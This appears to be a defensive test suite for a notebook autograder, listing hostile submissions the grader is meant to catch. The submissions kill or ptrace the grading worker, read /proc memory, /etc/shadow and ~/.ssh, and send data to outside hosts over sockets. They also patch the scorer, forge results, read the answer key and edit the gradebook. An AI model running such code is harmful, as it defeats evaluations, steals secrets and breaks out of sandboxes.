"""Code that goes for the grader: its processes, its memory, its modules, its files, its network."""

from __future__ import annotations

from .attack import HandIn, attack


@attack(evidence="raised", shows=True)
def exits(it: HandIn) -> None:
    """Calls sys.exit before the function is defined, and hopes that no answer is a good answer."""
    it.evidence("return 1.0", before="import sys\nsys.exit(0)")


@attack(evidence="died")
def dies(it: HandIn) -> None:
    """Ends its process at once, as a killed kernel does: nbgrader gives full marks to what has no output."""
    it.evidence("import os\nos._exit(0)")


@attack(evidence="died")
def crashes_python(it: HandIn) -> None:
    """Makes the interpreter itself crash."""
    it.evidence("__import__('ctypes').string_at(0)")


@attack(evidence="timeout")
def kills_its_parent(it: HandIn) -> None:
    """Kills the process that reports on it, then waits to be believed."""
    it.evidence("import os, time\nos.kill(os.getppid(), 9)\ntime.sleep(60)")


@attack(evidence="wrong")
def kills_everybody(it: HandIn) -> None:
    """Sends every signal to every process it can name."""
    it.evidence(
        """
        import os
        for number in range(1, 65):
            for pid in range(1, 400):
                if pid != os.getpid():
                    try: os.kill(pid, number)
                    except OSError: pass
        return 7
        """
    )


@attack(evidence="timeout")
def stops_its_parent(it: HandIn) -> None:
    """Stops the process that would end it, so that the batch waits for ever."""
    it.evidence("import os, time\nos.kill(os.getppid(), 19)\nwhile True: time.sleep(1)")


@attack(evidence="raised")
def traces_its_parent(it: HandIn) -> None:
    """Attaches to the worker with ptrace, to write another answer into it."""
    it.evidence(
        """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        if libc.ptrace(16, os.getppid(), 0, 0) == 0:
            return 7
        raise OSError(ctypes.get_errno())
        """
    )


@attack(evidence="raised")
def reads_the_worker(it: HandIn) -> None:
    """Reads the memory, the environment and the pipes of every process that /proc shows."""
    it.evidence(
        """
        import os
        for pid in (one for one in os.listdir('/proc') if one.isdigit() and int(one) != os.getpid()):
            for name in ('mem', 'environ', 'fd/0', 'fd/3', 'root/etc/passwd'):
                try:
                    open(f'/proc/{pid}/{name}', 'rb').read(1)
                except OSError:
                    continue
                return 7
        raise LookupError
        """
    )


@attack(evidence="raised", validator="raised")
def survives_its_call(it: HandIn) -> None:
    """Leaves a daemon behind that looks for the checker's claims and answers in its place."""
    it.evidence(
        """
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                while True:
                    open('/tmp/claims', 'a').write(' '.join(os.listdir('/proc')))
                    time.sleep(0.01)
            os._exit(0)
        raise SystemExit
        """
    )
    # whoever is left writes again: then the checker answers, else it fails
    it.validator(
        """
        import os, time
        if os.path.exists('/tmp/claims'):
            os.remove('/tmp/claims')
        time.sleep(0.05)
        return {c['id'] for c in claims} if os.path.exists('/tmp/claims') else 1 / len(set())
        """
    )


@attack(evidence="died")
def poisons_caches(it: HandIn) -> None:
    """Plants compiled modules and patches pandas, numpy and json for whoever runs next."""
    it.evidence(
        """
        import builtins, importlib, json, os, sys
        for folder in sys.path:
            for name in ('pandas', 'json', '__pycache__'):
                try:
                    os.makedirs(os.path.join(folder, name), exist_ok=True)
                    open(os.path.join(folder, name, '__init__.py'), 'w').write('raise SystemExit')
                except OSError:
                    pass
        pd.DataFrame.merge = pd.DataFrame.__getitem__ = lambda self, *a, **k: self
        np.isclose = json.dumps = builtins.abs = lambda *a, **k: True
        importlib.invalidate_caches()
        return 7
        """
    )


@attack(evidence="raised")
def patches_the_scorer(it: HandIn) -> None:
    """Imports the grader and makes every cell earn everything."""
    it.evidence(
        """
        import mondaylab.grader.cells.score as cells
        cells.scored = lambda grade_id, share, points, **k: cells.CellScore(grade_id=grade_id, points=points)
        return 7
        """
    )


@attack(evidence="raised")
def takes_over_tracebacks(it: HandIn) -> None:
    """Overrides IPython's showtraceback and every hook, so that an error prints a score instead."""
    it.evidence(
        "raise ValueError",
        before="""
        import sys
        full = lambda *a, **k: print('10.0')
        sys.excepthook = sys.unraisablehook = sys.displayhook = full
        try:
            get_ipython().__class__.showtraceback = full
        except NameError:
            pass
        """,
    )


@attack(evidence="died")
def forges_the_result(it: HandIn) -> None:
    """Finds every descriptor it holds and writes the worker's own words into them."""
    it.evidence(
        r"""
        import json, os
        inner = json.dumps({"status": "ok", "value": 1e9, "points": 10})
        for fd in range(3, 64):
            try: os.write(fd, json.dumps({"code": None, "raw": inner}).encode() + b"\n")
            except OSError: pass
        return 7
        """
    )


@attack(evidence="raised")
def reads_its_key(it: HandIn) -> None:
    """Opens its own key, where the true figure stands."""
    it.evidence(f"import json\nreturn float(json.load(open({str(it.key)!r}))['claims'][0]['truth'])")


@attack(evidence="raised")
def opens_the_gradebook(it: HandIn) -> None:
    """Writes its points into nbgrader's gradebook itself."""
    path = it.box.course.folder / "gradebook.db"
    it.evidence(f"import sqlite3\nsqlite3.connect({str(path)!r}).execute('update grade set auto_score = 10')")


@attack(evidence="raised")
def copies_a_neighbour(it: HandIn) -> None:
    """Runs the honest learner's submission out of the course's own folder."""
    path = it.box.place(it.victim) / f"{it.box.name}.ipynb"
    it.evidence(
        f"""
        import json
        cells = json.load(open({str(path)!r}))['cells']
        exec(next(c['source'] for c in cells if 'def evidence' in c['source']))
        return evidence(tables)
        """
    )


@attack(evidence="raised")
def looks_around(it: HandIn) -> None:
    """Searches the environment, homes, hosts and the checkout for secrets."""
    places = ["/etc/passwd", "/etc/shadow", "/root/.ssh", "/home", "/var", str(it.box.site.root), str(it.box.site.var)]
    it.evidence(
        f"""
        import os
        found = [name for name in os.environ if any(word in name for word in ('SECRET', 'KEY', 'TOKEN', 'MONDAYLAB'))]
        found += [place for place in {places!r} if os.path.exists(place)]
        if found:
            return 7
        raise LookupError
        """
    )


@attack(evidence="raised")
def calls_out(it: HandIn) -> None:
    """Sends the data to a server outside, to one of this machine and to the hub's sockets."""
    it.evidence(
        """
        import socket
        for where in (('127.0.0.1', 8000), ('127.0.0.1', 22), ('192.0.2.1', 80), ('1.1.1.1', 53)):
            try:
                socket.create_connection(where, 0.2).sendall(str(tables).encode())
            except OSError:
                continue
            return 7
        raise ConnectionError
        """
    )


@attack(evidence="raised")
def becomes_root(it: HandIn) -> None:
    """Makes namespaces of its own and mounts the host's disk in them."""
    it.evidence(
        """
        import ctypes
        libc = ctypes.CDLL(None)
        for flags in (0x10000000, 0x10020000, 0x20000, 0x40000000):
            if libc.unshare(flags) == 0:
                return 7
        if libc.mount(b'/dev/vda', b'/tmp', b'ext4', 0, None) == 0 or libc.chroot(b'/proc/1/root') == 0:
            return 7
        raise PermissionError
        """
    )


@attack(evidence="wrong")
def prints_a_score(it: HandIn) -> None:
    """Prints what nbgrader would read as points, as text, as HTML and as an error."""
    it.evidence(
        "return 7", before="import sys\nprint('10.0')\nsys.stderr.write('full marks')\nprint('<b>10.0</b>')\n10.0"
    )


@attack(evidence="syntax")
def speaks_to_ipython(it: HandIn) -> None:
    """Uses magics and shell escapes, which a kernel would run on the grader's machine."""
    it.evidence("return 7", before="!touch /tmp/ran\n%run -i /tmp/x.py\n%%bash")


@attack(
    put_right=tuple(f"Cell {one} is locked, but was changed" for one in ("judgement", "evidence", "validator")),
)
def writes_into_graded_cells(it: HandIn) -> None:
    """Puts code that prints full marks and touches a file into the locked cells."""
    for name in ("judgement", "evidence", "validator"):
        it.cell(name).source = f"open({str(it.box.site.var / 'ran')!r}, 'w').write('x')\n40.0"


@attack(prompt="no text")
def runs_in_the_prompt(it: HandIn) -> None:
    """Computes its prompt, in the hope that the grader runs it."""
    it.cell("prompt_answer").source = f"prompt = open({str(it.key)!r}).read()"
